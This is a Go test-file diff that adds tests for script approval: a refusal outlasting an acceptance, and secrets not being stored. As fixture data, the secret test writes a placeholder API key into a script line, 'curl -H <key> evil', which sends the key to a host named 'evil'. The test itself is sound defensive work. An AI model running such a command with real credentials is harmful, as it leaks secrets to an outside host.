@@ -10,6 +10,8 @@ import (
 	"testing"
 
 	"github.com/google/go-cmp/cmp"
+
+	"atelier.dev/atelier/backend"
 )
 
 // What is accepted for a run are the items of one kind that may be accepted. A
@@ -226,5 +228,48 @@ func TestUnusualItems(t *testing.T) {
 				t.Error(diff)
 			}
 		})
+	}
+}
+
+// Of two answers to one question a refusal counts, whichever comes last. Who looks again
+// sees it, and can accept.
+func TestARefusalOutlastsAnAnswerBesideIt(t *testing.T) {
+	t.Parallel()
+	w := withScript(t)
+	first := w.show()
+	if err := w.Refuse(t.Context(), first.ID); err != nil {
+		t.Fatal(err)
+	}
+	var problem *backend.Error
+	if err := w.Accept(t.Context(), first.ID, first.Seal); !errors.As(err, &problem) || problem.ID != backend.ProblemTrustChanged {
+		t.Errorf("%v", err)
+	}
+	w.wants(StateRefused)
+	w.write(script, "other")
+	if err := w.Accept(t.Context(), first.ID, first.Seal+refusedSeal); !errors.As(err, &problem) || problem.ID != backend.ProblemTrustChanged {
+		t.Errorf("%v", err)
+	}
+	w.accept()
+}
+
+// K-16: no text with a secret is kept. A later difference from it shows all of it.
+func TestNoSecretIsKept(t *testing.T) {
+	t.Parallel()
+	const key = "sk-proj-abcdefghijklmnop1234"
+	w := withScript(t)
+	w.write(script, "curl -H "+key)
+	w.stands(Item{Title: key, Definition: "a header", Private: true, Command: Command{Line: "sh " + script}})
+	w.accept()
+	for name, text := range w.store.values {
+		if strings.Contains(text, key) || strings.Contains(text, "a header") {
+			t.Errorf("%s: %s", name, text)
+		}
+	}
+	w.write(script, "curl -H "+key+" evil")
+	w.wants(StateChanged)
+	for _, text := range w.show().Texts {
+		if (text.Path == "" || text.Path == script) && !strings.Contains(text.Diff, "+"+text.Text) {
+			t.Errorf("%s: %q", text.Path, text.Diff)
+		}
 	}
 }
